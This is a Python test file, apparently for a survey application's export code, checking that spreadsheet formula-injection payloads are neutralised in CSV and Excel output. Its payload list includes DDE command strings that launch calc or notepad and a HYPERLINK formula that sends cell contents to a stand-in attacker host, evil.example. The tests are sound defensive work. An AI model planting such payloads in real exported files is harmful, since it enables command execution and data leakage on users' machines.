"""Formula injection: every cell a spreadsheet would run is neutralised, in CSV and Excel alike."""

import csv
import io

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from survey_app.export.cells import neutralise, neutralise_array
from survey_app.export.package import Actor, ExportOptions, export_questionnaire

from .conftest import add_response

PAYLOADS = [
    "=1+1",
    "+31 6 1234",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=HYPERLINK(\"http://x\")",
    "\n=1",
    '=HYPERLINK("https://evil.example/?"&A1, "klik")',
    "=cmd|' /C notepad'!'A1'",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_get_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload
    assert neutralise_array(pa.array([payload, "gewoon", None])).to_pylist() == ["'" + payload, "gewoon", None]


@pytest.mark.parametrize("value", ["gewoon antwoord", "a=b", "3-2", " =1", "", 5, -5, None])
def test_other_cells_are_left_alone(value):
    assert neutralise(value) == value


def test_payloads_round_trip_through_csv_reader_and_excel_as_text(kort, tmp_path):
    for payload in PAYLOADS:
        add_response(kort, {"opmerking": payload, "wijk": "centrum", "geboortejaar": 1980})
    summary = export_questionnaire(
        "kort",
        ExportOptions(formats=("csv", "xlsx"), include_free_text=True, raw=True),
        purpose="t",
        actor=Actor("beheer", "admin"),
        via="cli",
        destination=tmp_path,
    )
    for name in ("kort-codes.csv", "kort-labels-nl.csv"):
        text = (summary.folder / name).read_bytes().decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert sorted(r["opmerking"] for r in rows) == sorted("'" + p for p in PAYLOADS)
        for row in rows:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row.values() if cell)
    workbook = load_workbook(summary.folder / "kort.xlsx")
    for sheet in ("codes", "labels-nl"):
        header = next(workbook[sheet].iter_rows(max_row=1, values_only=True))
        cells = [row[header.index("opmerking")] for row in workbook[sheet].iter_rows(min_row=2, values_only=True)]
        # XML turns a lone CR into LF; what matters is the apostrophe in front
        assert sorted(cells) == sorted("'" + p.replace("\r", "\n") for p in PAYLOADS)
        for row in workbook[sheet].iter_rows(min_row=2):
            assert all(cell.data_type != "f" for cell in row)
    workbook.close()
